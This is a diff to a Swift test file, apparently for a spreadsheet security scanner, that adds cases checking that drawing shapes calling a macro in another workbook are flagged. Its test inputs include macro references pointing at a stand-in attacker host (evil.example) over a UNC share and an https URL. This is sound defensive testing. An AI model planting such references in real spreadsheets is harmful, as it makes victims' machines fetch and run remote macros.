@@ -18,7 +18,8 @@ struct SpreadsheetRound6Tests {
     /// is refused, as a form control's fmlaMacro is.
     @Test(arguments: ["sp", "pic", "cxnSp", "graphicFrame", "grpSp"])
     func aDrawingObjectRunningAMacroInAnotherWorkbookIsFound(_ element: String) {
-        for macro in [#"'\\evil.example\share\m.xlsm'!Run"#, "'https://evil.example/m.xlsm'!Run", "[1]!Run"] {
+        // Also a workbook by its plain name, one Excel has open or finds beside this one (attack round 7).
+        for macro in [#"'\\evil.example\share\m.xlsm'!Run"#, "'https://evil.example/m.xlsm'!Run", "[1]!Run", "evil.xlsm!Run", "PERSONAL.XLSB!Run"] {
             let findings = Self.drawing("macro=\"\(macro)\" textlink=\"\"", element: element)
             #expect(findings.contains { $0.contains("macro in another workbook") }, "\(element) \(macro): \(findings)")
         }
